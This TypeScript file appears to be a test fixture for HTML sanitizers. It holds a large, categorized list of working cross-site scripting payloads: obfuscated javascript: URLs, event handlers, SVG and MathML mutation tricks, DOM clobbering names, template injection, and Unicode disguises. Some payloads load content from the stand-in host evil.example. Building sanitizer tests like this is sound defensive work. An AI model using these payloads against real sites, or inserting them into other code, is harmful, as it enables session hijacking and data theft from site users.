/** Shown by whoever is run: browsers have a word for it, and a test listens to that. */
const RUN = 'alert(1)';
/** Whom nobody may ask. */
const ELSEWHERE = 'https://evil.example/x';

const ON = (name: string) => `on${name}=${RUN}`;
/** Entities, tabs and line ends within a scheme, which browsers take out again. */
const DISGUISED = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${RUN}`,
  `&#0000106avascript:${RUN}`,
  `jav&#x09;ascript:${RUN}`,
  `jav&#x0A;ascript:${RUN}`,
  `jav&#x0D;ascript:${RUN}`,
  `jav\tascript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `&Tab;javascript:${RUN}`,
  `&NewLine;javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `&#1;javascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `javascript://evil.example/%0a${RUN}`,
  `javascript:/*--></title></style></textarea></script>*/${RUN}`,
  `vbscript:msgbox(1)`,
  `livescript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `blob:null/${RUN}`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
];

const EVENTS = ['load', 'error', 'click', 'focus', 'focusin', 'blur', 'mouseover', 'mouseenter', 'pointerover', 'pointerenter', 'pointerrawupdate', 'wheel', 'toggle', 'begin', 'start', 'scroll', 'scrollend', 'copy', 'cut', 'paste', 'beforetoggle', 'animationstart', 'transitionend', 'auxclick', 'contextmenu', 'dragstart', 'beforeinput', 'hashchange', 'pageshow', 'contentvisibilityautostatechange'];
const TAGS = ['p', 'b', 'img src=x', 'a href=/faq', 'svg', 'video src=x', 'details open', 'body', 'input autofocus', 'select autofocus', 'marquee', 'object data=x', 'math', 'x tabindex=1 autofocus', 'style', 'iframe src=/faq'];

/** What is tried on cleaners of HTML, by kind. */
export const PAYLOADS_OF_OURS: Readonly<Record<string, readonly string[]>> = {
  'scripts': [
    `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT >`, `<script\n>${RUN}</script\t>`, `<script/x>${RUN}</script>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<<script>${RUN}//<</script>`,
    `<script src=${ELSEWHERE}></script>`, `<script src=//evil.example/x></script>`, `<script src=data:,${RUN}></script>`, `<script type=module>${RUN}</script>`, `<script async src=data:text/javascript,${RUN}></script>`,
    `<script>self.__next_f.push([1,"0:null"]);${RUN}</script>`, `<svg><script>${RUN}</script></svg>`, `<svg><script href=data:,${RUN} /></svg>`, `<math><script>${RUN}</script></math>`, `<script x="</script>">${RUN}</script>`,
  ],
  'event handlers': [...TAGS.flatMap((tag) => ['load', 'error', 'focus', 'toggle'].map((name) => `<${tag} ${ON(name)}>x`)), ...EVENTS.flatMap((name) => [`<p ${ON(name)}>x</p>`, `<img src=x ${ON(name)}>`, `<a href="/faq" ${ON(name)}>x</a>`])],
  'handlers that are hard to see': [
    `<img src=x onerror\n=\n${RUN}>`, `<img src=x onerror\t=${RUN}>`, `<img src=x/onerror=${RUN}>`, `<img/src=x/onerror=${RUN}>`, `<img src=x\fonerror=${RUN}>`, `<img src="x"onerror="${RUN}">`, `<img src='x'onerror='${RUN}'>`,
    `<img src=x oNeRrOr=${RUN}>`, `<img src=x onerror=&#97;lert(1)>`, `<img src=x onerror="&#x61;lert(1)">`, `<img src=x onerror=\`${RUN}\`>`, `<img alt="\`><img src=x onerror=${RUN}>" src=x>`, `<img """><img src=x onerror=${RUN}>">`,
    `<img src=x\u0000 onerror=${RUN}>`, `<img \u0000src=x onerror=${RUN}>`, `<img src=x on\u0000error=${RUN}>`, `<img alt="a" alt="b" onerror=${RUN} src=x>`, `<a href="/faq" title="><img src=x onerror=${RUN}>">x</a>`, `<p x='"><img src=x onerror=${RUN}>'>x</p>`,
    `<img src="x" width="1&quot; onerror=&quot;${RUN}">`, `<img src="x" alt="&quot; onerror=&quot;${RUN}">`, `<img src='x' alt='&#39; onerror=&#39;${RUN}'>`, `<a href='/faq&#39; onfocus=&#39;${RUN}' autofocus>x</a>`,
  ],
  'addresses that run': [
    ...DISGUISED.flatMap((address) => [`<a href="${address}">x</a>`, `<img src="${address}">`]),
    ...DISGUISED.slice(0, 12).flatMap((address) => [`<form action="${address}"><button>x</button></form>`, `<button formaction="${address}">x</button>`, `<iframe src="${address}"></iframe>`, `<object data="${address}"></object>`, `<embed src="${address}">`, `<svg><a xlink:href="${address}"><text>x</text></a></svg>`, `<math><a xlink:href="${address}">x</a></math>`]),
    `<a href="/faq" ping="${ELSEWHERE}">x</a>`, `<area href="javascript:${RUN}">`, `<base href="javascript:/a/">`, `<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
    `<isindex action="javascript:${RUN}" type=image>`, `<video poster="javascript:${RUN}"></video>`, `<body background="javascript:${RUN}">`, `<table background="javascript:${RUN}">`, `<input type=image src="javascript:${RUN}">`, `<q cite="javascript:${RUN}">x</q>`, `<link rel=stylesheet href="javascript:${RUN}">`,
  ],
  'SVG': [
    `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${RUN}><a><text>x</text></a></svg>`, `<svg><a><animate attributeName=href values=javascript:${RUN} /><text>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x">`, `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`, `<svg><style><img src=x onerror=${RUN}></style></svg>`, `<svg><title><img src=x onerror=${RUN}></title></svg>`,
    `<svg><desc><iframe srcdoc="<script>${RUN}</script>"></iframe></desc></svg>`, `<svg><image href=x onerror=${RUN}>`, `<svg><image xlink:href="${ELSEWHERE}">`, `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`, `<svg><discard onbegin=${RUN}>`, `<svg><feImage href="${ELSEWHERE}">`, `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${RUN}</x:script></svg>`,
  ],
  'MathML': [
    `<math href="javascript:${RUN}">x</math>`, `<math><maction actiontype="statusline#x" xlink:href="javascript:${RUN}">x</maction></math>`, `<math><mtext><img src=x onerror=${RUN}></mtext></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`, `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  ],
  'what changes as it is read again': [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`, `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`, `<math></p><style><!--</style><img src/onerror=${RUN}>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<noembed><img title="</noembed><img src=x onerror=${RUN}>">`, `<noframes><p title="</noframes><img src=x onerror=${RUN}>">`, `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`, `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`, `<title><p title="</title><img src=x onerror=${RUN}>">`, `<iframe><p title="</iframe><img src=x onerror=${RUN}>">`, `<plaintext><p title="</plaintext><img src=x onerror=${RUN}>">`,
    `<template><img src=x onerror=${RUN}></template>`, `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`, `<select><template><style></select><img src=x onerror=${RUN}>`, `<select><iframe></select><img src=x onerror=${RUN}>`, `<table><td><svg><desc><td><style><img src=x onerror=${RUN}></style>`, `<p><table><svg><style><p></style><img src=x onerror=${RUN}>`,
    `<svg><p><style><g title="</style><img src=x onerror=${RUN}>">`, `<math><mi><style><img title="</style><img src=x onerror=${RUN}>">`, `<a><svg><foreignObject><p><style><a title="</style><img src=x onerror=${RUN}>">`, `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`, `<pre>&lt;img src=x onerror=${RUN}&gt;</pre>`, `<code>&lt;script&gt;${RUN}&lt;/script&gt;</code>`,
    `&lt;img src=x onerror=${RUN}&gt;`, `&amp;lt;img src=x onerror=${RUN}&amp;gt;`, `&#60;img src=x onerror=${RUN}&#62;`, `<option><style></option></select><b><img src=x onerror=${RUN}></style></option>`, `<xmp><svg></xmp><img src=x onerror=${RUN}>`,
  ],
  'comments, declarations, unclosed tags': [
    `<!--><img src=x onerror=${RUN}>-->`, `<!--><img src=x onerror=${RUN}//-->`, `<!---><img src=x onerror=${RUN}>-->`, `<!-- --!><img src=x onerror=${RUN}> -->`, `<!--[if IE]><img src=x onerror=${RUN}><![endif]-->`, `<![CDATA[<img src=x onerror=${RUN}>]]>`, `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`, `<?xml version="1.0"?><img src=x onerror=${RUN}>`, `<?php <img src=x onerror=${RUN}> ?>`, `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${RUN}>">]>&y;`, `<! foo="><img src=x onerror=${RUN}>">`, `</ foo="><img src=x onerror=${RUN}>">`, `<% foo="%><img src=x onerror=${RUN}>">`,
    `<img src=x onerror=${RUN}`, `<img src=x onerror=${RUN} <p>`, `<a href="javascript:${RUN}`, `<p title="`, `'"></p></div></main><img src=x onerror=${RUN}>`, `</div></div></section></main></body></html><script>${RUN}</script>`, `<b <script>${RUN}</script>0`, `<p/onclick=${RUN}>x`, `<a/href="javascript:${RUN}">x</a>`, `<\u00a0img src=x onerror=${RUN}>`, `<\u0000img src=x onerror=${RUN}>`, `<img/ src=x onerror=${RUN}/>`, `</p ${ON('click')}>`, `</br ${ON('click')}>`,
    `</script><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `</noscript><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `</template><script>${RUN}</script>`, `--></script><script>${RUN}</script>`, `\u2028<script>${RUN}</script>\u2029`, `"])</script><script>${RUN}</script>`, `\\"])</script><script>${RUN}</script><!--`, `"]);${RUN};self.__next_f.push([1,"`,
  ],
  'styles': [
    `<p style="background:url(javascript:${RUN})">x</p>`, `<p style="background:url(${ELSEWHERE})">x</p>`, `<p style="width:expression(${RUN})">x</p>`, `<p style="w/**/idth:exp/**/ression(${RUN})">x</p>`, `<p style="-moz-binding:url(${ELSEWHERE})">x</p>`, `<p style="behavior:url(${ELSEWHERE})">x</p>`, `<style>@import "${ELSEWHERE}";</style>`, `<style>*{background:url(${ELSEWHERE})}</style>`, `<style>body{display:none}</style>`, `<link rel=stylesheet href=${ELSEWHERE}>`, `<link rel=preload as=image href=${ELSEWHERE}>`, `<link rel=icon href=${ELSEWHERE}>`, `<style onload=${RUN}></style>`, `<p style="position:fixed;inset:0;z-index:9999">x</p>`, `<style></style\n><img src=x onerror=${RUN}>`, `<font style='font-family:";}</style><img src=x onerror=${RUN}>"'>x</font>`, `<img src=x style="x:\\0022onerror=${RUN}">`, `<p class="visually-hidden" style="animation-name:x" ${ON('animationstart')}>x</p>`,
  ],
  'frames, objects, forms': [
    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`, `<iframe srcdoc="&lt;img src=x onerror=top.${RUN}&gt;"></iframe>`, `<iframe src=${ELSEWHERE}></iframe>`, `<frameset onload=${RUN}><frame src=${ELSEWHERE}></frameset>`, `<object data=${ELSEWHERE}></object>`, `<object><param name=src value=${ELSEWHERE}></object>`, `<embed src=${ELSEWHERE}>`, `<applet code=${ELSEWHERE}></applet>`, `<portal src=${ELSEWHERE}></portal>`, `<fencedframe src=${ELSEWHERE}></fencedframe>`, `<form action=${ELSEWHERE}><input name=a autofocus ${ON('focus')}></form>`, `<input form=x formaction=javascript:${RUN}>`, `<keygen autofocus ${ON('focus')}>`, `<dialog open ${ON('close')}>x</dialog>`, `<p popover id=x ${ON('beforetoggle')}>x</p><button popovertarget=x>x</button>`, `<bgsound src=${ELSEWHERE}>`, `<layer src=${ELSEWHERE}></layer>`, `<xml src=${ELSEWHERE}></xml>`,
  ],
  'pictures and media': [
    `<img srcset="${ELSEWHERE} 1x" src=/x>`, `<picture><source srcset="${ELSEWHERE}"><img src=/x></picture>`, `<img src=/x lowsrc="javascript:${RUN}">`, `<img dynsrc="javascript:${RUN}">`, `<video><source onerror=${RUN} src=x></video>`, `<video src=x onloadstart=${RUN}></video>`, `<audio src=x onerror=${RUN}></audio>`, `<track src=x onerror=${RUN}>`, `<video poster=${ELSEWHERE}></video>`, `<image src=x onerror=${RUN}>`, `<img src=/x usemap=#m><map name=m><area href=javascript:${RUN}></map>`, `<canvas onclick=${RUN}>`, `<input type=image src=x onerror=${RUN}>`,
  ],
  'names that hide what scripts look for': [
    ...['__next_f', 'body', 'head', 'cookie', 'documentElement', 'getElementById', 'querySelector', 'createElement', 'location', 'localStorage', 'forms', 'children', 'parentNode', 'attributes', 'innerHTML', 'nodeName', 'ownerDocument', '__proto__', 'constructor', 'hasOwnProperty', 'dataLayer', 'googletag', 'OnetrustActiveGroups'].flatMap((name) => [`<img name=${name} src=/x>`, `<form id=${name}><input name=${name}></form>`, `<a id=${name} href="javascript:${RUN}">x</a><a id=${name} name=${name} href="data:,x">x</a>`]),
    `<form><input name=action><input name=submit></form>`, `<a id=content href=/faq>x</a>`, `<iframe name=self></iframe>`, `<iframe name=alert src=/x></iframe>`,
  ],
  'templates of others, letters that are no letters': [
    `{{constructor.constructor('${RUN}')()}}`, '${alert(1)}', '<%= alert(1) %>', '#{alert(1)}', `[[${RUN}]]`, `<p v-html="${RUN}" ng-init="${RUN}" x-init="${RUN}" hx-on:load="${RUN}" data-bind="html:${RUN}">x</p>`,
    `＜script＞${RUN}＜/script＞`, `‹img src=x onerror=${RUN}›`, `\u202e>)1(trela=rorreno x=crs gmi<`, `<ımg src=x onerror=${RUN}>`, `<ſcript>${RUN}</ſcript>`, `<İmg src=x onerror=${RUN}>`, `<img src=x onerror\u00a0=${RUN}>`, `<img\u2000src=x onerror=${RUN}>`, `\ufffd<script>${RUN}</script>`, `%3Cscript%3E${RUN}%3C/script%3E`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `\\x3cimg src=x onerror=${RUN}\\x3e`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `\ufeff<script>${RUN}</script>`, `＜img src=x onerror=${RUN}＞`,
  ],
};
